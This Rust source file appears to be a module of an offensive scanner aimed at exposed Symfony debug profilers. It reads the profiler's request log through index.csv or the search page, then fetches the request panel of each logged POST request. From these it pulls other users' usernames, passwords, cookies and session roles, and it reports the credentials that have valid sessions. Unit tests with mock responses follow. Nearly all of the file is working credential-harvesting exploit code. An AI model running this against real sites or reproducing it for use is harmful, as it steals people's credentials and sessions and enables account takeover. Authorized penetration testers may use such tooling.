//! Credentials and sessions found in the profiler's request logs.
//!
//! Only POST requests are looked at. Body parameters whose key contains one
//! of the username or password keywords are taken as a login attempt.

use crate::context::ScanContext;
use crate::engine::WorkerPool;
use crate::modules::Module;
use crate::parser::{parse_index, LogEntry, PanelParser};
use crate::profiler;
use crate::types::{Credential, Probe, ProbeResult, Result};
use async_trait::async_trait;
use std::collections::HashSet;
use tracing::{debug, info, warn};

pub const NAME: &str = "Request logs";

pub struct RequestLogs {
    /// Entries read from the search page when the index can't be read.
    limit: usize,
    usernames: Vec<String>,
    passwords: Vec<String>,
}

impl Default for RequestLogs {
    fn default() -> Self {
        Self {
            limit: 50,
            usernames: ["user", "login", "usr", "email"].map(String::from).to_vec(),
            passwords: vec!["pass".to_string()],
        }
    }
}

impl RequestLogs {
    /// Logged POST requests, from `index.csv` when it can be previewed,
    /// from the profiler search page otherwise.
    async fn post_requests(&self, ctx: &mut ScanContext) -> Result<Vec<LogEntry>> {
        let index_path = ctx.layout().profiler_index;
        if let Some(index) = profiler::open(ctx, &index_path).await? {
            debug!("Read {}", index_path);
            let entries = parse_index(&index)
                .into_iter()
                .filter(|e| e.method == "POST")
                .collect();
            ctx.files.insert(index_path, index);
            return Ok(entries);
        }

        debug!("Could not read {}, searching the profiler", index_path);
        let limit = self.limit.to_string();
        let response = profiler::get(
            ctx,
            "empty/search/results",
            &[("limit", limit.as_str()), ("method", "POST")],
        )
        .await?;

        Ok(PanelParser::new()
            .search_results(&response.body)
            .unwrap_or_default())
    }

    /// Credential logged by one request panel, if it carries a username.
    pub fn credential(&self, parser: &PanelParser, result: &ProbeResult) -> Option<Credential> {
        let response = result.response()?;
        let panel = parser.request(&response.body)?;

        let name = query(&panel.parameters, &self.usernames)?;
        let password = query(&panel.parameters, &self.passwords).unwrap_or_default();
        let role = panel.session.as_deref().and_then(|s| parser.role(s));

        Some(Credential {
            name,
            password,
            role,
            cookies: panel.cookies,
            session: panel.session,
            token: result.token.to_string(),
        })
    }
}

#[async_trait]
impl Module for RequestLogs {
    fn name(&self) -> &'static str {
        NAME
    }

    async fn run(&self, ctx: &mut ScanContext, pool: &WorkerPool) -> Result<()> {
        let logs = self.post_requests(ctx).await?;
        if logs.is_empty() {
            info!("No POST requests");
            return Ok(());
        }

        info!("Found {} POST requests", logs.len());
        for entry in &logs {
            let probe = Probe::get(profiler::url(&ctx.url, &entry.token))
                .param("panel", "request")
                .with_token(entry.token.as_str());
            pool.submit(probe);
        }
        pool.join().await;

        let parser = PanelParser::new();
        let mut users = HashSet::new();
        for result in pool.take_results() {
            if let Some(user) = self.credential(&parser, &result) {
                debug!("[{}] Found user: {}", user.token, user);
                users.insert(user);
            }
        }

        if users.is_empty() {
            warn!("Did not find any credentials");
            return Ok(());
        }

        let mut users: Vec<Credential> = users.into_iter().collect();
        users.sort_by(|a, b| a.name.cmp(&b.name).then_with(|| a.password.cmp(&b.password)));

        let with_session: Vec<&Credential> = users
            .iter()
            .filter(|u| !u.name.is_empty() && !u.password.is_empty() && u.has_session())
            .collect();
        if !with_session.is_empty() {
            warn!("Found the following credentials with a valid session:");
            for user in with_session {
                warn!(
                    "  {}: {} [{}]",
                    user.name,
                    user.password,
                    user.role.as_deref().unwrap_or_default()
                );
            }
        }

        // Password changes, usually.
        let lonely: Vec<&Credential> = users
            .iter()
            .filter(|u| !u.password.is_empty() && u.name.is_empty())
            .collect();
        if !lonely.is_empty() {
            warn!("Found the following lonely credentials:");
            for user in lonely {
                warn!("  {}", user.password);
            }
        }

        let without_session: Vec<&Credential> = users
            .iter()
            .filter(|u| !u.name.is_empty() && !u.has_session())
            .collect();
        if !without_session.is_empty() {
            warn!("Found the following credentials with no valid session:");
            for user in without_session {
                warn!("  {}: {}", user.name, user.password);
            }
        }

        ctx.credentials = users;
        Ok(())
    }
}

/// Value of the first parameter whose key contains one of `keywords`,
/// case insensitively. `_usr_login` matches both `usr` and `login`.
fn query(parameters: &[(String, String)], keywords: &[String]) -> Option<String> {
    parameters
        .iter()
        .find(|(key, _)| {
            let key = key.to_lowercase();
            keywords.iter().any(|k| key.contains(k.as_str()))
        })
        .map(|(_, value)| value.clone())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::transport::mock::MockTransport;
    use crate::version::Version;
    use std::sync::Arc;

    /// A value cell the way the VarDumper renders it.
    fn dumped(id: usize, value: &str) -> String {
        format!(
            "<td><pre class=sf-dump id=sf-dump-{id} data-indent-pad=\"  \">\"<span class=sf-dump-str title=\"{} characters\">{}</span>\"\n</pre>\
             <script>Sfdump(\"sf-dump-{id}\")</script></td>",
            value.len(),
            value
        )
    }

    fn request_panel(body: &str, session: Option<&str>) -> String {
        let mut html = format!(
            "<h3>Request Content</h3><pre class=\"prewrap\">{}</pre>\
             <h3>Request Cookies</h3><table class=\"key-value\"><tbody><tr><th>PHPSESSID</th>{}</tr></tbody></table>",
            body,
            dumped(1, "abc")
        );
        if let Some(session) = session {
            html.push_str(&format!(
                "<h3>Session Attributes</h3><table class=\"key-value\"><tbody><tr><th>_security_main</th>{}</tr></tbody></table>",
                dumped(2, session)
            ));
        }
        html
    }

    fn params(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn test_query_matches_key_fragments() {
        let keywords = vec!["user".to_string(), "login".to_string()];
        let parameters = params(&[("_csrf", "x"), ("_Login_Form", "jane"), ("_username", "bob")]);
        assert_eq!(query(&parameters, &keywords).as_deref(), Some("jane"));
        assert_eq!(query(&params(&[("q", "a")]), &keywords), None);
    }

    #[tokio::test]
    async fn test_credentials_from_index() {
        let index = "<code>aaa111,10.0.0.1,POST,http://t/login,1575673363,,302</code>\
                     <code>bbb222,10.0.0.1,GET,http://t/,1575673364,,200</code>\
                     <code>ccc333,10.0.0.2,POST,http://t/login,1575673365,,302</code>\
                     <code>ddd444,10.0.0.2,POST,http://t/profile,1575673366,,302</code>";
        let transport = Arc::new(
            MockTransport::new()
                .route(
                    "http://t/_profiler/open?file=var/cache/dev/profiler/index.csv&line=1",
                    200,
                    index,
                )
                .route(
                    "http://t/_profiler/aaa111?panel=request",
                    200,
                    &request_panel(
                        "_username=jane_admin&amp;_password=kitten",
                        Some("O:1:{s:10:&quot;ROLE_ADMIN&quot;}"),
                    ),
                )
                .route(
                    "http://t/_profiler/ccc333?panel=request",
                    200,
                    &request_panel("_username=bob&amp;_password=wrong", None),
                )
                .route(
                    "http://t/_profiler/ddd444?panel=request",
                    200,
                    &request_panel("new_password=hunter2", None),
                ),
        );
        let mut ctx = ScanContext::new("http://t", transport.clone());
        ctx.version = Version::parse("4.4.0");
        let mut pool = WorkerPool::new(transport.clone());
        pool.start(2);

        RequestLogs::default().run(&mut ctx, &pool).await.unwrap();
        pool.stop().await;

        assert!(ctx.files.contains_key("var/cache/dev/profiler/index.csv"));
        // The GET request is never fetched, the lonely password has no username.
        assert_eq!(transport.calls(), 4);
        assert_eq!(ctx.credentials.len(), 2);

        let bob = &ctx.credentials[0];
        assert_eq!(bob.name, "bob");
        assert!(!bob.has_session());

        let jane = &ctx.credentials[1];
        assert_eq!(jane.name, "jane_admin");
        assert_eq!(jane.password, "kitten");
        assert_eq!(jane.role.as_deref(), Some("ROLE_ADMIN"));
        assert_eq!(jane.token, "aaa111");
        assert_eq!(jane.cookies, params(&[("PHPSESSID", "abc")]));
        assert_eq!(jane.session.as_deref(), Some(r#"O:1:{s:10:"ROLE_ADMIN"}"#));
    }

    #[tokio::test]
    async fn test_search_fallback_without_results() {
        let transport = Arc::new(MockTransport::new().route(
            "http://t/_profiler/empty/search/results?limit=50&method=POST",
            200,
            "<h2>No results found</h2>",
        ));
        let mut ctx = ScanContext::new("http://t", transport.clone());
        let pool = WorkerPool::new(transport.clone());

        RequestLogs::default().run(&mut ctx, &pool).await.unwrap();

        assert!(ctx.credentials.is_empty());
        assert!(ctx.files.is_empty());
        assert_eq!(transport.calls(), 2);
    }
}
